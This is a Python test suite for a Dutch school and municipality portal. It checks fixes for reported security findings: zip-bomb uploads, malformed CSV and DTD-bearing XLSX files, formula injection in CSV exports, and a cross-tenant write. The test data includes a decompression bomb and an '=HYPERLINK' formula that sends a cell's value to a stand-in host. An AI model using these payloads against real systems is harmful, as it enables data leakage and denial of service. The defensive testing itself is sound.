"""Hostile input in the school portal and the register (issue 15, findings 1, 2, 5 and 6)."""

import csv
import io
import time

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

import pytest

from openinburgering.accounts.rollen import Rol
from openinburgering.core.tests.test_tabellen import xlsx
from openinburgering.taalaanbieders import upload
from openinburgering.taalaanbieders.codes import UploadStatus
from openinburgering.taalaanbieders.models import InstellingContact, Urenregel, Urenupload

from .conftest import maak_contract

MB = 1024 * 1024
KOP = "kenmerk;periode_start;periode_einde;uren_aangeboden;uren_aanwezig;uren_fysiek;verzuimreden"


@pytest.fixture
def school_user(contract, school_medewerker):
    return school_medewerker(contract.instelling)


@pytest.fixture
def taken_later(settings):
    """A task backend that keeps what is enqueued, as the database backend does until a
    worker takes it: the request must answer without having read the file."""
    settings.TASKS = {"default": {"BACKEND": "django.tasks.backends.dummy.DummyBackend"}}


# --- finding 1: uploads are read by a task, not in the web request ------------------------------


def test_the_web_request_stores_the_file_and_answers_without_reading_it(
    school_user, inloggen, taken_later
):
    """Finding 1 (issue 15): a 0.51 MB XLSX holding a 500 MB cell kept a web worker busy until
    gunicorn killed it. The request now only stores the file and enqueues a task; the upload's
    page shows that it waits, and asks again (htmx) until the task is done."""
    bom = xlsx(b"A" * MB, herhaal=500)
    client = inloggen(school_user)
    begin = time.monotonic()
    response = client.post(
        reverse("taalaanbieders:uren_uploaden"),
        {"bestand": SimpleUploadedFile("uren.xlsx", bom)},
        follow=True,
    )
    assert time.monotonic() - begin < 5
    bestand = Urenupload.objects.get()
    assert bestand.status == UploadStatus.WACHT and len(bytes(bestand.inhoud)) == len(bom)
    inhoud = response.content.decode()
    pagina = reverse("taalaanbieders:upload", kwargs={"uuid": bestand.uuid})
    assert response.redirect_chain == [(pagina, 302)]
    assert "In de wachtrij" in inhoud and 'hx-trigger="every 2s"' in inhoud

    # The worker takes the task: the bomb is refused by the zip's stated sizes, in Dutch.
    assert upload.verwerken(upload_id=bestand.pk) == UploadStatus.GEWEIGERD
    bestand.refresh_from_db()
    assert bytes(bestand.inhoud) == b""  # the file is not kept once read
    partieel = client.get(pagina, headers={"HX-Request": "true"}).content.decode()
    assert "uitgepakt groter dan 10 MB" in partieel and "every 2s" not in partieel
    assert "<html" not in partieel  # htmx gets the status part only
    # A task that runs twice does nothing the second time.
    assert upload.verwerken(upload_id=bestand.pk) == UploadStatus.GEWEIGERD


def test_another_school_cannot_see_or_import_an_upload(
    school_user, school_medewerker, andere_instelling, inloggen
):
    """Finding 1: the upload's page belongs to the school that uploaded it."""
    inloggen(school_user).post(
        reverse("taalaanbieders:uren_uploaden"),
        {"bestand": SimpleUploadedFile("uren.csv", f"{KOP}\nVW-ONBEKEND;x;x;1;1;1;".encode())},
    )
    pagina = reverse("taalaanbieders:upload", kwargs={"uuid": Urenupload.objects.get().uuid})
    vreemde = inloggen(school_medewerker(andere_instelling))
    assert vreemde.get(pagina).status_code == 404
    assert vreemde.post(pagina, {"actie": "geldige_importeren"}).status_code == 404


# --- finding 6: malformed files gave a 500 ---------------------------------------------------------


@pytest.mark.parametrize(
    ("naam", "inhoud", "melding"),
    [
        ("uren.csv", f"{KOP}\nVW-1;1\r2;x\n".encode(), "los regeleinde (CR)"),
        ("uren.csv", f"{KOP}\nVW-1;".encode() + b"x" * (129 * 1024), "langer dan 1000 tekens"),
    ],
    ids=["bare-cr", "field-over-128-kib"],
)
def test_a_malformed_csv_is_refused_in_dutch_not_with_a_500(
    naam, inhoud, melding, school_user, inloggen
):
    """Finding 6 (issue 15): a CSV with a bare CR in a field or a field over 128 KiB was a 500."""
    response = inloggen(school_user).post(
        reverse("taalaanbieders:uren_uploaden"),
        {"bestand": SimpleUploadedFile(naam, inhoud)},
        follow=True,
    )
    assert response.status_code == 200
    assert melding in response.content.decode()
    assert not Urenregel.objects.exists()


def test_an_xlsx_with_a_dtd_is_refused_in_dutch_not_with_a_500(school_user, inloggen):
    """Finding 6 (issue 15): an XLSX with a DTD was a 500 (its entities were not resolved)."""
    from openinburgering.core.tests.test_tabellen import _gewoon_xlsx, _met_blad

    met_dtd = _met_blad(
        _gewoon_xlsx(),
        b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY e "x">]><worksheet/>',
    )
    response = inloggen(school_user).post(
        reverse("taalaanbieders:uren_uploaden"),
        {"bestand": SimpleUploadedFile("uren.xlsx", met_dtd)},
        follow=True,
    )
    assert response.status_code == 200
    assert "bevat een DTD of entiteiten" in response.content.decode()


# --- finding 2: formula injection in the export ----------------------------------------------------


def test_the_export_neutralises_cells_that_a_spreadsheet_would_run_as_a_formula(
    contract, verwijs, school_user, inloggen
):
    """Finding 2 (issue 15): names and languages starting with =, +, -, @ went into the CSV as
    they were (8 of 8), e.g. =HYPERLINK(…). They now start with an apostrophe."""
    verwijs(
        contract, voornamen='=HYPERLINK("http://voorbeeld.example/?"&B3,"klik")', achternaam="@SOM"
    )
    response = inloggen(school_user).get(reverse("taalaanbieders:export"))
    rijen = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    naam = rijen[1][rijen[0].index("naam")]
    assert naam.startswith("'=HYPERLINK(")
    assert all(not cel.startswith(("=", "+", "-", "@")) for rij in rijen for cel in rij)


# --- finding 5: a cross-tenant write ---------------------------------------------------------------


def test_one_gemeentes_beheerder_cannot_change_another_gemeentes_contact_at_a_school(
    instelling, gemeente_a, gemeente_b, medewerker, inloggen
):
    """Finding 5 (issue 15): one gemeente's functioneel beheerder changed a school's contact
    details for every gemeente. Each gemeente now keeps its own contact for the school."""
    maak_contract(gemeente_a, instelling)
    maak_contract(gemeente_b, instelling, kenmerk="K-B-1")
    url = reverse("taalaanbieders:instelling_contact", kwargs={"uuid": instelling.uuid})
    beheer_a = inloggen(medewerker(Rol.FUNCTIONEEL_BEHEERDER, gemeente_a))
    beheer_b = inloggen(medewerker(Rol.FUNCTIONEEL_BEHEERDER, gemeente_b))
    beheer_a.post(url, {"contactpersoon": "Sanne de Vries", "email": "", "telefoon": ""})
    response = beheer_b.post(
        url, {"contactpersoon": "Overgenomen", "email": "x@voorbeeld.example", "telefoon": ""}
    )
    assert response.status_code == 302

    contacten = {c.gemeente: c.contactpersoon for c in InstellingContact.objects.all()}
    assert contacten == {gemeente_a: "Sanne de Vries", gemeente_b: "Overgenomen"}
    lijst_a = beheer_a.get(reverse("taalaanbieders:instellingen")).content.decode()
    assert "Sanne de Vries" in lijst_a and "Overgenomen" not in lijst_a
    # The form shows each gemeente its own contact, never the other's.
    assert "Sanne de Vries" not in beheer_b.get(url).content.decode()
